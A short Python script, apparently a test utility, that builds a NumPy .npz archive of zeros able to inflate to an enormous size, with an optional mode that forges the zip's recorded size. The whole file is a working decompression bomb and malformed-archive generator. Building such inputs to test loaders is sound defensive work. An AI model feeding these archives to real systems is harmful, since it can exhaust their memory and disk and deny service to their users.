"""Writes an archive of one array of zeros: npz_bomb.py FILE DIM,DIM,... NAME [forged]. A
forged one states the size of its elements and has none."""
import struct
import sys
import zipfile

path, dims, name = sys.argv[1:4]
size = 4
for dim in dims.split(","):
    size *= int(dim)
header = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({dims},), }}\n".encode()
start = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
left = 0 if sys.argv[4:] else size
with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file, file.open(f"{name}.npy", "w") as member:
    member.write(start)
    zeros = bytes(1 << 24)
    while left:
        left -= member.write(zeros[:min(left, len(zeros))])
if sys.argv[4:]:
    data = bytearray(open(path, "rb").read())
    place = data.index(b"PK\x01\x02") + 24
    data[place:place + 4] = struct.pack("<I", size + len(start))
    open(path, "wb").write(data)
